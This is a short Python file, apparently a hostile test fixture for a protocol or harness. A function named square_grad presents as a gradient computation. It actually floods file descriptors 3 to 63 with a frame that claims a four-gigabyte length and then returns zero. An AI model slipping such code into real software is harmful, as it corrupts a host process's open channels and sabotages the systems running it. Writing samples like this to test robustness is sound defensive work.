# A frame that announces four gigabytes.
# protocol
# stock: no
import os
import struct


def square_grad(x):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack(">II", 2**32 - 1, 2**32 - 1) + b"x" * 10_000)
        except OSError:
            pass
    return 0 * x
